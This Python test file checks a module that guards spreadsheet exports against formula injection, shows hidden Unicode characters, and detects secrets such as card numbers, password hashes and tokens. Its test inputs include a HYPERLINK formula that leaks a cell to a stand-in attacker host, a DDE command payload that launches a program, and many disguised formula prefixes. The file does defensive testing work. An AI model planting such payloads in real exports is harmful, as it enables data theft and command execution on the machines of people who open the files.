"""Planted text: what a spreadsheet may compute, what a page may hide, what must not leave."""

import csv
import io
import re
import unicodedata

import pytest

from privacyops.domain.package.hostile_text import Secret, formula_safe, secrets_in, starts_formula, visible

TRAPS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\x00=1",
    " =1",
    "   +1",
    "\u00a0=1",
    "\u3000@x",
    '"=1"',
    "'=1",
    "“=1",
    "\u200b=1",
    "\ufeff=1",
    "\u202e=1",
    "\n=1",
    "\r\n=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "﹦1",
    "⁼1",
    "−1+x",
    "\x01=1",
    "\x1f=1",
    '=HYPERLINK("http://evil.example?"&A1)',
    "=cmd|'/C calc'!A0",
    "@x",
    "\tplain words after a tab",
    "\rplain words",
    "\x00plain words",
]
INNER_TRAPS = ["a;=1", "a; =1", "a\n=1", "a\r\n+1", "a\t@x", 'a;"=1', "a;＝1", "a;\u200b=1", "a;\x00=1", "1;-1+x"]


@pytest.mark.parametrize("text", TRAPS)
def test_a_text_that_could_start_a_formula_gets_a_leading_apostrophe(text: str) -> None:
    assert formula_safe(text).startswith("'")
    assert starts_formula(text) or text.startswith("'")  # such a text guards itself
    assert not starts_formula(formula_safe(text))


@pytest.mark.parametrize("text", INNER_TRAPS)
def test_a_formula_behind_a_separator_of_another_country_is_guarded_where_it_stands(text: str) -> None:
    safe = formula_safe(text)
    assert starts_formula(text)
    assert not starts_formula(safe)
    for part in re.split(r"[;\t\r\n]+", safe)[1:]:
        assert part.startswith("'")


@pytest.mark.parametrize("text", ["Anna", "a=b", "a+b", "3-4", "mail@example.com", "", "–", "1;2", "x\ny", "don't"])
def test_a_harmless_text_stays_as_it_is(text: str) -> None:
    assert formula_safe(text) == text
    assert not starts_formula(text)


def test_every_sign_that_folds_into_a_trigger_is_one() -> None:
    folded = {
        chr(code)
        for code in range(0x110000)
        if unicodedata.normalize("NFKC", chr(code))[:1] in set("=+-@") and not 0xD800 <= code < 0xE000
    }
    assert [sign for sign in sorted(folded) if not formula_safe(sign + "1").startswith("'")] == []


def test_every_blank_and_every_invisible_sign_before_a_formula_is_seen_through() -> None:
    invisible = [
        chr(code) for code in range(0x110000) if chr(code).isspace() or unicodedata.category(chr(code)) in {"Cc", "Cf"}
    ]
    scripts = {"EGYPTIAN", "KAITHI"}  # signs that join hieroglyphs and numbers: no program skips them
    missed = [
        f"{ord(sign):04X}"
        for sign in invisible
        if not formula_safe(sign + "=1").startswith("'") and unicodedata.name(sign, "x").split()[0] not in scripts
    ]
    assert missed == []


def test_a_number_is_not_a_formula() -> None:
    assert not starts_formula("-12.30")
    assert not starts_formula("+4")
    assert starts_formula("-12.30+1")


def test_nul_is_shown_so_that_nothing_is_cut_off_behind_it() -> None:
    assert formula_safe("a\x00b") == "a\u2400b"


def test_a_long_text_of_separators_takes_no_square_time() -> None:
    for text in ("\n" * 300_000, ";" * 300_000, " " * 300_000, "; " * 150_000, "'" * 300_000):
        formula_safe(text)
        starts_formula(text)


@pytest.mark.parametrize("text", TRAPS + INNER_TRAPS)
def test_a_spreadsheet_that_splits_at_semicolons_still_meets_no_formula(text: str) -> None:
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator="\r\n").writerow(["row", formula_safe(text), "end"])
    fragments = re.split(r"[;\t\r\n]", out.getvalue())
    cells = [cell for line in csv.reader(io.StringIO(out.getvalue(), newline="")) for cell in line]
    dangerous = re.compile(r'[\s"\u200b\ufeff\u202e\x00-\x1f]*[=+\-@＝＋－＠]')
    assert [one for one in [*fragments[1:], *cells] if dangerous.match(one)] == []


def test_hidden_signs_are_shown_by_their_number() -> None:
    assert visible("a\u202eb\u200bc\x00d\x1be") == "a⟦U+202E⟧b⟦U+200B⟧c⟦U+0000⟧d⟦U+001B⟧e"


def test_line_ends_and_tabs_are_plain_text() -> None:
    assert visible("a\r\nb\nc\td") == "a\nb\nc\td"


def test_a_family_emoji_and_a_persian_word_keep_their_joiners() -> None:
    for text in (
        "\U0001f469\u200d\U0001f469\u200d\U0001f467",
        "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
        "\u2764\ufe0f",
    ):
        assert visible(text) == text


def test_a_joiner_between_latin_letters_is_shown() -> None:
    assert visible("a\u200db") == "a⟦U+200D⟧b"


@pytest.mark.parametrize(
    "text",
    [
        "4111 1111 1111 1111",
        "my card 5555555555554444.",
        "378282246310005",
        "6011-1111-1111-1117",
        "4111111111111111",
    ],
)
def test_a_card_number_is_found_by_issuer_and_check_digit(text: str) -> None:
    assert secrets_in(text) == {Secret.CARD_NUMBER}


@pytest.mark.parametrize(
    "text",
    ["4111 1111 1111 1112", "4006381333931", "order 20261122000017", "+49 30 5550123", "DE89 3704 0044 0532 0130 00"],
)
def test_article_numbers_orders_phones_and_ibans_are_no_card_numbers(text: str) -> None:
    assert secrets_in(text) == frozenset()


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("$2b$12$Nosecretatallbutlookslikeone.abcdefghijklmnopqrstuvwx", Secret.PASSWORD_HASH),
        ("$argon2id$v=19$m=65536,t=3,p=4$c29tZXNhbHQ$RdescudvJCsgt3ub", Secret.PASSWORD_HASH),
        ("pbkdf2_sha256$600000$abcdefghij$0123456789abcdefghij", Secret.PASSWORD_HASH),
        ("-----BEGIN RSA PRIVATE KEY-----", Secret.PRIVATE_KEY),
        (
            "token eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJlLXRoYXQtaXMtbG9uZw",
            Secret.ACCESS_TOKEN,
        ),
        ("078-05-1120", Secret.SOCIAL_SECURITY_NUMBER),
    ],
)
def test_a_secret_is_found_by_its_shape(text: str, kind: Secret) -> None:
    assert secrets_in(text) == {kind}
